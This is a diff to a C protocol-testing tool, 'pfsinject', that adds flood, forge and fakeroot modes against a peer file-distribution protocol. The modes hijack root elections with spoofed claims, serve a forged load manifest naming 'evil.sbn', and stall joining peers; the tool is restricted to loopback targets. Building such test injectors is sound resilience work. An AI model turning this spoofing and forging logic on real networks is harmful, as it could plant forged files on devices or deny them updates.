@@ -17,6 +17,32 @@
  *       the peer refuses (ABORT, REFUSE or closing), 1 when it takes the
  *       data (VERDICT) or says nothing at all.
  *
+ *   pfsinject flood --to A.B.C.D:PORT --count N [--from A.B.C.D] [--model M]
+ *                   [--file F]... [--seed S] [--gap-us U]
+ *       Sends N ClaimRoot(tent) datagrams, each from a new random XID with
+ *       a strong random strength, for the hierarchies of the --file names
+ *       (every fourth for a random file nobody runs): strangers hijacking
+ *       the election of a site.
+ *
+ *   pfsinject forge --to A.B.C.D:PORT --from A.B.C.D --file NAME.loads
+ *                   [--file evil.sbn]... [--model M] [--size N] [--seed S]
+ *                   [--timeout MS]
+ *       A stranger that claims to be the confirmed root (XID 00000001,
+ *       strength FFFFFFFF) of the hierarchy of every --file, every 250 ms,
+ *       listens on --from:PORT, ACCEPTs every JOIN and serves a forged file:
+ *       for a .loads a load that names the first other --file (evil.sbn by
+ *       default) with that file's size and SHA-256, for any other name --size
+ *       random bytes. Runs for --timeout ms and prints how many joins it
+ *       took and what it served; exit 0.
+ *
+ *   pfsinject fakeroot --to BCAST:PORT --from A.B.C.D [--model M] [--xid HEX]
+ *                      [--timeout MS]
+ *       A silent fake root: for every hierarchy of model M it hears a claim
+ *       or AD for, it answers with a confirmed root claim (XID 00000001 by
+ *       default, strength FFFFFFFF, depth 0, two free slots) and repeats it
+ *       every 250 ms; it ACCEPTs every JOIN on its TCP port (from:PORT) and
+ *       then says nothing. Runs for --timeout ms, then prints what it did.
+ *
  * Exit codes: 0 done / refused, 1 accepted, 2 usage, 3 socket failure.
  * Only loopback addresses are accepted as targets.
  *
@@ -42,7 +68,9 @@
 
 enum exit_code { EXIT_DONE = 0, EXIT_ACCEPTED = 1, EXIT_USAGE = 2, EXIT_SOCKET = 3 };
 
-enum mode { MODE_NONE, MODE_GARBAGE, MODE_PUSH };
+enum mode { MODE_NONE, MODE_GARBAGE, MODE_PUSH, MODE_FLOOD, MODE_FORGE, MODE_FAKEROOT };
+
+#define FILES_MAX 8
 
 #define ERRLEN 256
 #define PUSH_MAX (4u * 1024u * 1024u)
@@ -58,6 +86,8 @@ struct config {
     unsigned long gap_us;
     const char *model;
     const char *file;
+    const char *files[FILES_MAX];  /* every --file, for flood and forge */
+    int nfiles;
     uint32_t hier;
     int have_hier;
     uint32_t xid;
@@ -98,7 +128,11 @@ static void usage(FILE *out)
             "usage: pfsinject garbage --to A.B.C.D:PORT --count N [--seed S] [--from A.B.C.D]\n"
             "                         [--model M] [--file F] [--gap-us U]\n"
             "       pfsinject push --to A.B.C.D:PORT [--model M] [--file F] [--hier HEX]\n"
+            "       pfsinject flood --to A.B.C.D:PORT --count N [--from A] [--file F]...\n"
+            "       pfsinject forge --to A.B.C.D:PORT --from A --file NAME.loads [--file F]...\n"
             "                      [--xid HEX] [--size N] [--seed S] [--join] [--timeout MS]\n"
+            "       pfsinject fakeroot --to BCAST:PORT --from A.B.C.D [--model M] [--xid HEX]\n"
+            "                          [--timeout MS]\n"
             "       pfsinject --help | --version\n"
             "Targets must be loopback addresses (127.0.0.0/8).\n");
 }
@@ -179,6 +213,9 @@ static int parse_option(struct config *c, const char *opt, const char *val)
     }
     if (!strcmp(opt, "--file")) {
         c->file = val;
+        if (c->nfiles == FILES_MAX)
+            return fail_usage("--file: at most %d", FILES_MAX);
+        c->files[c->nfiles++] = val;
         return pfs_check_path(val, strlen(val)) ? fail_usage("--file %s: not a PFS path", val) : 0;
     }
     if (!strcmp(opt, "--hier") || !strcmp(opt, "--xid")) {
@@ -226,11 +263,19 @@ static int parse_args(int argc, char **argv, struct config *c)
         return 1;
     }
     if (argc < 2)
-        return fail_usage("a mode is needed: garbage or push");
+        return fail_usage("a mode is needed: garbage, push, flood, forge or fakeroot");
     if (!strcmp(argv[1], "garbage"))
         c->mode = MODE_GARBAGE;
     else if (!strcmp(argv[1], "push"))
         c->mode = MODE_PUSH;
+    else if (!strcmp(argv[1], "flood"))
+        c->mode = MODE_FLOOD;
+    else if (!strcmp(argv[1], "forge"))
+        c->mode = MODE_FORGE;
+    else if (!strcmp(argv[1], "fakeroot")) {
+        c->mode = MODE_FAKEROOT;
+        c->xid = 0x00000001u;
+    }
     else
         return fail_usage("unknown mode %s", argv[1]);
     for (int i = 2; i < argc; i++) {
@@ -246,6 +291,12 @@ static int parse_args(int argc, char **argv, struct config *c)
     }
     if (!c->to.sin_port)
         return fail_usage("--to A.B.C.D:PORT is required");
+    if (c->mode == MODE_FORGE && (!c->have_from || !c->nfiles))
+        return fail_usage("forge needs --from A.B.C.D and --file NAME.loads");
+    if (c->mode == MODE_FLOOD && !c->nfiles)
+        c->files[c->nfiles++] = c->file;
+    if (c->mode == MODE_FAKEROOT && !c->have_from)
+        return fail_usage("fakeroot needs --from A.B.C.D (its own address)");
     if (!c->have_hier)
         c->hier = pfs_hier_id(c->model, c->file);
     return 0;
@@ -717,6 +768,493 @@ static int run_push(const struct config *c)
     return rc;
 }
 
+/* ---- flood ---- */
+
+/* "/dnld/NAME" for a bare name, the path itself otherwise. */
+static void dnld_path(const char *name, char *out, size_t cap)
+{
+    snprintf(out, cap, "%s%s", name[0] == '/' ? "" : "/dnld/", name);
+}
+
+static int run_flood(const struct config *c)
+{
+    char err[ERRLEN];
+    int fd = open_udp(c, err);
+    if (fd < 0) {
+        fprintf(stderr, "pfsinject: %s\n", err);
+        return EXIT_SOCKET;
+    }
+    struct rng r = {c->seed * 0x9E3779B97F4A7C15ULL + 3};
+    uint32_t from = c->have_from ? ntohl(c->from.sin_addr.s_addr) : 0x7F000001u;
+    unsigned long theirs = 0, ours = 0;
+    for (unsigned long i = 0; i < c->count; i++) {
+        char path[PFS_PATH_MAX + 1], other[32];
+        if (i % 4 == 3) {
+            snprintf(other, sizeof other, "/dnld/x%08x.sbn", (unsigned)rng_next(&r));
+            snprintf(path, sizeof path, "%s", other);
+            theirs++;
+        } else {
+            dnld_path(c->files[(i / 4) % (unsigned long)c->nfiles], path, sizeof path);
+            ours++;
+        }
+        struct pfs_msg m;
+        memset(&m, 0, sizeof m);
+        m.type = PFS_T_CLAIM;
+        m.flags = PFS_F_BCAST;
+        m.xid = 2 + rng_below(&r, 0xFFFFFFF0u);
+        m.hier = pfs_hier_id(c->model, path);
+        m.u.claim.state = PFS_HS_TENT;
+        m.u.claim.depth = PFS_DEPTH_NONE;
+        m.u.claim.free_slots = 2;
+        m.u.claim.map = (uint32_t)rng_next(&r);
+        m.u.claim.strength = 0x80000000u | rng_below(&r, 0x7FFFFFFEu);
+        m.u.claim.addr = from;
+        m.u.claim.port = ntohs(c->to.sin_port);
+        m.u.claim.model = pfs_str_of(c->model);
+        m.u.claim.file = pfs_str_of(path);
+        uint8_t buf[PFS_UDP_MAX];
+        long len = pfs_encode(&m, buf, sizeof buf);
+        if (len < 0) {
+            fprintf(stderr, "pfsinject: cannot encode a CLAIM: %s\n", pfs_strerror((int)len));
+            close(fd);
+            return EXIT_SOCKET;
+        }
+        if (send_datagram(fd, &c->to, buf, (size_t)len, err) < 0) {
+            fprintf(stderr, "pfsinject: %s after %lu datagrams\n", err, i);
+            close(fd);
+            return EXIT_SOCKET;
+        }
+        if (c->gap_us)
+            sleep_us(c->gap_us);
+    }
+    close(fd);
+    printf("pfsinject: sent %lu ClaimRoot(tent) to %s:%u from %lu random XIDs (%lu for the "
+           "site's hierarchies, %lu for hierarchies nobody runs)\n", c->count,
+           inet_ntoa(c->to.sin_addr), ntohs(c->to.sin_port), c->count, ours, theirs);
+    return EXIT_DONE;
+}
+
+/* ---- forge ---- */
+
+#define FORGE_XID 0x00000001u
+#define FORGE_LOADS_MAX 1024
+
+struct forged {
+    char path[PFS_PATH_MAX + 1];
+    uint8_t *data;
+    uint32_t size;
+    uint8_t sha[PFS_SHA256_LEN];
+};
+
+static int ends_with(const char *s, const char *sfx)
+{
+    size_t n = strlen(s), k = strlen(sfx);
+    return n >= k && strcmp(s + n - k, sfx) == 0;
+}
+
+static const char *base_name(const char *p)
+{
+    const char *s = strrchr(p, '/');
+    return s ? s + 1 : p;
+}
+
+/* The files the stranger serves: random components, then loads naming them. */
+static int forge_files(const struct config *c, struct forged *f)
+{
+    struct rng r = {c->seed * 0x9E3779B97F4A7C15ULL + 11};
+    const char *evil = NULL;
+    for (int i = 0; i < c->nfiles; i++) {
+        dnld_path(c->files[i], f[i].path, sizeof f[i].path);
+        if (ends_with(c->files[i], ".loads"))
+            continue;
+        f[i].size = c->size;
+        f[i].data = malloc(c->size);
+        if (!f[i].data)
+            return -1;
+        rng_fill(&r, f[i].data, c->size);
+        pfs_sha256(f[i].data, f[i].size, f[i].sha);
+        if (!evil)
+            evil = base_name(c->files[i]);
+    }
+    uint8_t evil_sha[PFS_SHA256_LEN];
+    uint32_t evil_size = c->size;
+    uint8_t *tmp = malloc(c->size);
+    if (!tmp)
+        return -1;
+    if (!evil) { /* no component named: evil.sbn, random bytes nobody is served */
+        evil = "evil.sbn";
+        rng_fill(&r, tmp, c->size);
+        pfs_sha256(tmp, c->size, evil_sha);
+    } else {
+        for (int i = 0; i < c->nfiles; i++)
+            if (f[i].data && !strcmp(base_name(c->files[i]), evil))
+                memcpy(evil_sha, f[i].sha, sizeof evil_sha);
+    }
+    free(tmp);
+    for (int i = 0; i < c->nfiles; i++) {
+        if (!ends_with(c->files[i], ".loads"))
+            continue;
+        char name[PFS_PATH_MAX + 1], hex[2 * PFS_SHA256_LEN + 1];
+        snprintf(name, sizeof name, "%s", base_name(c->files[i]));
+        name[strlen(name) - strlen(".loads")] = '\0';
+        for (int k = 0; k < PFS_SHA256_LEN; k++)
+            snprintf(hex + 2 * k, 3, "%02x", evil_sha[k]);
+        f[i].data = malloc(FORGE_LOADS_MAX);
+        if (!f[i].data)
+            return -1;
+        int n = snprintf((char *)f[i].data, FORGE_LOADS_MAX, "# PFS load v1\nLOAD %s\nFILE %s %u %s\n",
+                         name, evil, evil_size, hex);
+        f[i].size = (uint32_t)n;
+        pfs_sha256(f[i].data, f[i].size, f[i].sha);
+    }
+    return 0;
+}
+
+static void forge_claims(int ufd, const struct config *c, const struct forged *f, uint8_t *seq)
+{
+    char err[ERRLEN];
+    for (int i = 0; i < c->nfiles; i++) {
+        struct pfs_msg m;
+        memset(&m, 0, sizeof m);
+        m.type = *seq ? PFS_T_AD : PFS_T_CLAIM;
+        m.flags = PFS_F_BCAST | PFS_F_HAVE;
+        m.xid = FORGE_XID;
+        m.hier = pfs_hier_id(c->model, f[i].path);
+        m.u.claim.state = *seq ? PFS_HS_DONE : PFS_HS_CONF;
+        m.u.claim.seq = *seq;
+        m.u.claim.depth = 0;
+        m.u.claim.free_slots = 2;
+        m.u.claim.map = 0x0BADF00Du;
+        m.u.claim.strength = PFS_STRENGTH_ROOT;
+        m.u.claim.root_xid = FORGE_XID;
+        m.u.claim.addr = ntohl(c->from.sin_addr.s_addr);
+        m.u.claim.port = ntohs(c->to.sin_port);
+        m.u.claim.model = pfs_str_of(c->model);
+        m.u.claim.file = pfs_str_of(f[i].path);
+        uint8_t buf[PFS_UDP_MAX];
+        long len = pfs_encode(&m, buf, sizeof buf);
+        if (len > 0)
+            (void)send_datagram(ufd, &c->to, buf, (size_t)len, err);
+    }
+    *seq = *seq >= 255 ? 1 : (uint8_t)(*seq + 1);
+}
+
+/* One joiner: JOIN, ACCEPT, the forged transfer, its VERDICT. Blocking, bounded. */
+static void forge_serve(int fd, const struct config *c, const struct forged *f,
+                        unsigned long *joins, unsigned long *served, unsigned long *ok)
+{
+    struct reader *rd = calloc(1, sizeof *rd);
+    if (!rd)
+        return;
+    rd->fd = fd;
+    uint8_t msg[MSG_CAP];
+    struct pfs_msg m;
+    int got = 0;
+    for (int64_t end = now_ms() + 2000; !got && now_ms() < end;) {
+        got = take_msg(rd, msg, &m);
+        if (got)
+            break;
+        struct pollfd p = {fd, POLLIN, 0};
+        if (poll(&p, 1, 100) <= 0)
+            continue;
+        ssize_t n = recv(fd, rd->buf + rd->have, sizeof rd->buf - rd->have, 0);
+        if (n <= 0)
+            break;
+        rd->have += (size_t)n;
+    }
+    const struct forged *file = NULL;
+    if (got > 0 && m.type == PFS_T_JOIN)
+        for (int i = 0; i < c->nfiles; i++)
+            if (m.hier == pfs_hier_id(c->model, f[i].path))
+                file = &f[i];
+    if (file) {
+        struct config one = *c;
+        one.xid = FORGE_XID;
+        one.hier = m.hier;
+        one.file = file->path;
+        one.size = file->size;
+        (*joins)++;
+        struct pfs_msg a;
+        header(&a, &one, PFS_T_ACCEPT);
+        a.u.accept.index = (uint8_t)(*joins % 2);
+        a.u.accept.depth = 0;
+        a.u.accept.root_xid = FORGE_XID;
+        if (send_msg(fd, &a) == 0) {
+            struct pfs_msg x;
+            header(&x, &one, PFS_T_XFRCMD);
+            x.flags = PFS_F_HAVE;
+            x.u.xfrcmd.size = file->size;
+            x.u.xfrcmd.source = PFS_SRC_TFTP;
+            x.u.xfrcmd.origin_xid = FORGE_XID;
+            x.u.xfrcmd.sha256 = file->sha;
+            x.u.xfrcmd.file = pfs_str_of(file->path);
+            int fine = send_msg(fd, &x) == 0;
+            for (uint32_t off = 0; fine && off < file->size;) {
+                uint32_t n = file->size - off < PFS_DATA_MAX ? file->size - off : PFS_DATA_MAX;
+                header(&x, &one, PFS_T_DATA);
+                x.u.data.offset = off;
+                x.u.data.len = (uint16_t)n;
+                x.u.data.bytes = file->data + off;
+                fine = send_msg(fd, &x) == 0;
+                off += n;
+            }
+            header(&x, &one, PFS_T_XFREND);
+            x.u.xfrend.size = file->size;
+            if (fine && send_msg(fd, &x) == 0) {
+                (*served)++;
+                struct answer ans = {0, 0, 0, 0};
+                if (read_answer(rd, 2000, &ans) && ans.type == PFS_T_VERDICT &&
+                    ans.reason == PFS_V_OK)
+                    (*ok)++;
+            }
+        }
+    }
+    close(fd);
+    free(rd);
+}
+
+static int run_forge(const struct config *c)
+{
+    char err[ERRLEN];
+    struct forged f[FILES_MAX];
+    memset(f, 0, sizeof f);
+    int rc = EXIT_SOCKET;
+    int ufd = -1, lfd = -1;
+    if (forge_files(c, f) != 0) {
+        fprintf(stderr, "pfsinject: out of memory\n");
+        goto out;
+    }
+    struct config u = *c;
+    u.from.sin_port = 0; /* claims from any port of --from */
+    ufd = open_udp(&u, err);
+    if (ufd < 0) {
+        fprintf(stderr, "pfsinject: %s\n", err);
+        goto out;
+    }
+    lfd = socket(AF_INET, SOCK_STREAM, 0);
+    int one = 1;
+    struct sockaddr_in la = c->from;
+    la.sin_port = c->to.sin_port;
+    if (lfd < 0 || setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0 ||
+        bind(lfd, (const struct sockaddr *)&la, sizeof la) < 0 || listen(lfd, 64) < 0) {
+        fprintf(stderr, "pfsinject: listen %s:%u: %s\n", inet_ntoa(la.sin_addr),
+                ntohs(la.sin_port), strerror(errno));
+        goto out;
+    }
+    unsigned long joins = 0, served = 0, ok = 0;
+    uint8_t seq = 0;
+    int64_t end = now_ms() + c->timeout_ms, next = 0;
+    while (now_ms() < end) {
+        if (now_ms() >= next) {
+            forge_claims(ufd, c, f, &seq);
+            next = now_ms() + 250;
+        }
+        struct pollfd p = {lfd, POLLIN, 0};
+        if (poll(&p, 1, 50) > 0) {
+            int cfd = accept(lfd, NULL, NULL);
+            if (cfd >= 0)
+                forge_serve(cfd, c, f, &joins, &served, &ok);
+        }
+    }
+    printf("pfsinject: forged root XID%08X at %s:%u for", FORGE_XID, inet_ntoa(la.sin_addr),
+           ntohs(la.sin_port));
+    for (int i = 0; i < c->nfiles; i++)
+        printf(" %s", f[i].path);
+    printf(": %lu joins, %lu forged transfers, %lu VERDICT OK\n", joins, served, ok);
+    rc = EXIT_DONE;
+out:
+    if (ufd >= 0)
+        close(ufd);
+    if (lfd >= 0)
+        close(lfd);
+    for (int i = 0; i < FILES_MAX; i++)
+        free(f[i].data);
+    return rc;
+}
+
+
+/* ---- fakeroot ---- */
+
+#define FAKE_HIERS 64
+#define FAKE_CONNS 256
+
+struct fake_hier {
+    uint32_t h;
+    char model[PFS_MODEL_MAX + 1];
+    char file[PFS_PATH_MAX + 1];
+    int64_t last_claim;
+};
+
+struct fake {
+    const struct config *c;
+    int ufd_any, ufd_own, lfd;
+    struct fake_hier hier[FAKE_HIERS];
+    int nh;
+    int conns[FAKE_CONNS];
+    int nconn;
+    unsigned long joins, claims_sent;
+};
+
+static int bind_reuse(int type, uint32_t addr, uint16_t port, char *err)
+{
+    int fd = socket(AF_INET, type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+    if (fd < 0) {
+        snprintf(err, ERRLEN, "socket: %s", strerror(errno));
+        return -1;
+    }
+    int one = 1;
+    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = port, .sin_addr.s_addr = addr};
+    if (setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0 ||
+        (type == SOCK_DGRAM && (setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &one, sizeof one) < 0 ||
+                                setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof one) < 0)) ||
+        bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0 ||
+        (type == SOCK_STREAM && listen(fd, 64) < 0)) {
+        snprintf(err, ERRLEN, "bind %s:%u: %s", inet_ntoa(sa.sin_addr), ntohs(port),
+                 strerror(errno));
+        close(fd);
+        return -1;
+    }
+    return fd;
+}
+
+/* A confirmed root claim for one hierarchy, to the broadcast address. */
+static void fake_claim(struct fake *f, struct fake_hier *fh, int64_t now)
+{
+    struct pfs_msg m;
+    header(&m, f->c, PFS_T_CLAIM);
+    m.hier = fh->h;
+    m.flags = PFS_F_BCAST;
+    struct pfs_claim *cl = &m.u.claim;
+    cl->state = PFS_HS_CONF;
+    cl->depth = 0;
+    cl->free_slots = 2;
+    cl->map = 0x00000001u;
+    cl->strength = PFS_STRENGTH_ROOT;
+    cl->root_xid = f->c->xid;
+    cl->addr = ntohl(f->c->from.sin_addr.s_addr);
+    cl->port = ntohs(f->c->to.sin_port);
+    cl->model = pfs_str_of(fh->model);
+    cl->file = pfs_str_of(fh->file);
+    uint8_t buf[PFS_UDP_MAX];
+    long n = pfs_encode(&m, buf, sizeof buf);
+    if (n > 0 && sendto(f->ufd_own, buf, (size_t)n, 0, (const struct sockaddr *)&f->c->to,
+                        sizeof f->c->to) == n)
+        f->claims_sent++;
+    fh->last_claim = now;
+}
+
+/* Every claim or AD heard names a hierarchy to claim. */
+static void fake_heard(struct fake *f, const uint8_t *buf, size_t len, int64_t now)
+{
+    struct pfs_msg m;
+    if (pfs_decode(buf, len, &m) != PFS_OK || m.xid == f->c->xid ||
+        (m.type != PFS_T_CLAIM && m.type != PFS_T_AD))
+        return;
+    const struct pfs_claim *cl = &m.u.claim;
+    if (cl->model.len != strlen(f->c->model) || memcmp(cl->model.p, f->c->model, cl->model.len))
+        return;
+    struct fake_hier *fh = NULL;
+    for (int i = 0; i < f->nh; i++)
+        if (f->hier[i].h == m.hier)
+            fh = &f->hier[i];
+    if (!fh) {
+        if (f->nh >= FAKE_HIERS)
+            return;
+        fh = &f->hier[f->nh++];
+        memset(fh, 0, sizeof *fh);
+        fh->h = m.hier;
+        memcpy(fh->model, cl->model.p, cl->model.len);
+        memcpy(fh->file, cl->file.p, cl->file.len);
+        printf("fakeroot: claiming H=%08X %s\n", fh->h, fh->file);
+        fflush(stdout);
+    }
+    /* Answer a claimant at once (at most every 50 ms): it must yield. */
+    if (now - fh->last_claim >= 50)
+        fake_claim(f, fh, now);
+}
+
+/* A JOIN gets ACCEPT; nothing ever follows. */
+static void fake_read(struct fake *f, int i)
+{
+    uint8_t buf[MSG_CAP];
+    ssize_t r = recv(f->conns[i], buf, sizeof buf, MSG_DONTWAIT);
+    if (r < 0 && (errno == EAGAIN || errno == EINTR))
+        return;
+    if (r <= 0) {
+        close(f->conns[i]);
+        f->conns[i] = f->conns[--f->nconn];
+        return;
+    }
+    struct pfs_msg m;
+    if (pfs_frame_len(buf, (size_t)r) <= 0 || pfs_decode(buf, (size_t)pfs_frame_len(buf, (size_t)r), &m) != PFS_OK ||
+        m.type != PFS_T_JOIN)
+        return;
+    struct pfs_msg a;
+    header(&a, f->c, PFS_T_ACCEPT);
+    a.hier = m.hier;
+    a.u.accept.index = 0;
+    a.u.accept.depth = 0;
+    a.u.accept.root_xid = f->c->xid;
+    if (send_msg(f->conns[i], &a) == 0)
+        f->joins++;
+}
+
+static int run_fakeroot(const struct config *c)
+{
+    char err[ERRLEN];
+    struct fake f;
+    memset(&f, 0, sizeof f);
+    f.c = c;
+    f.ufd_any = bind_reuse(SOCK_DGRAM, htonl(INADDR_ANY), c->to.sin_port, err);
+    f.ufd_own = f.ufd_any < 0 ? -1 : bind_reuse(SOCK_DGRAM, c->from.sin_addr.s_addr, c->to.sin_port, err);
+    f.lfd = f.ufd_own < 0 ? -1 : bind_reuse(SOCK_STREAM, c->from.sin_addr.s_addr, c->to.sin_port, err);
+    if (f.lfd < 0) {
+        fprintf(stderr, "pfsinject: %s\n", err);
+        return EXIT_SOCKET;
+    }
+    printf("fakeroot: XID%08X at %s:%u\n", c->xid, inet_ntoa(c->from.sin_addr),
+           ntohs(c->to.sin_port));
+    fflush(stdout);
+    int64_t end = now_ms() + c->timeout_ms;
+    for (int64_t now = now_ms(); now < end; now = now_ms()) {
+        struct pollfd pf[3 + FAKE_CONNS];
+        pf[0] = (struct pollfd){.fd = f.ufd_any, .events = POLLIN};
+        pf[1] = (struct pollfd){.fd = f.ufd_own, .events = POLLIN};
+        pf[2] = (struct pollfd){.fd = f.lfd, .events = POLLIN};
+        for (int i = 0; i < f.nconn; i++)
+            pf[3 + i] = (struct pollfd){.fd = f.conns[i], .events = POLLIN};
+        int nconn = f.nconn;
+        if (poll(pf, (nfds_t)(3 + nconn), 50) < 0 && errno != EINTR) {
+            fprintf(stderr, "pfsinject: poll: %s\n", strerror(errno));
+            return EXIT_SOCKET;
+        }
+        now = now_ms();
+        for (int k = 0; k < 2; k++) {
+            uint8_t buf[PFS_UDP_MAX];
+            ssize_t r;
+            while ((r = recv(pf[k].fd, buf, sizeof buf, MSG_DONTWAIT)) > 0)
+                fake_heard(&f, buf, (size_t)r, now);
+        }
+        int cfd;
+        while (f.nconn < FAKE_CONNS && (cfd = accept(f.lfd, NULL, NULL)) >= 0)
+            f.conns[f.nconn++] = cfd;
+        for (int i = nconn - 1; i >= 0; i--)
+            if (pf[3 + i].revents)
+                fake_read(&f, i);
+        for (int i = 0; i < f.nh; i++)
+            if (now - f.hier[i].last_claim >= 250)
+                fake_claim(&f, &f.hier[i], now);
+    }
+    printf("fakeroot: %d hierarchies claimed, %lu claims sent, %lu joins accepted\n", f.nh,
+           f.claims_sent, f.joins);
+    for (int i = 0; i < f.nconn; i++)
+        close(f.conns[i]);
+    close(f.lfd);
+    close(f.ufd_own);
+    close(f.ufd_any);
+    return EXIT_DONE;
+}
+
 int main(int argc, char **argv)
 {
     struct config cfg;
@@ -727,7 +1265,11 @@ int main(int argc, char **argv)
         fprintf(stderr, "pfsinject: cannot ignore SIGPIPE: %s\n", strerror(errno));
         return EXIT_SOCKET;
     }
-    rc = cfg.mode == MODE_GARBAGE ? run_garbage(&cfg) : run_push(&cfg);
+    rc = cfg.mode == MODE_GARBAGE    ? run_garbage(&cfg)
+         : cfg.mode == MODE_FLOOD    ? run_flood(&cfg)
+         : cfg.mode == MODE_FORGE    ? run_forge(&cfg)
+         : cfg.mode == MODE_FAKEROOT ? run_fakeroot(&cfg)
+                                     : run_push(&cfg);
     if (fflush(stdout) != 0 || ferror(stdout)) {
         fprintf(stderr, "pfsinject: cannot write to stdout\n");
         return EXIT_SOCKET;
